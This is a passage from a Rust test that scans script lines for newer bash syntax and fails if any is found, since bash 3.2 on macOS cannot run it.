            for (syntax, what) in NEWER {
                if line.contains(syntax) {
                    found.push(format!("{file}:{}: {what}: {line}", n + 1));
                }
            }
        }
    }
    assert_eq!(
        found,
        Vec::<String>::new(),
        "bash 3.2 (macOS) cannot run these"
    );
}
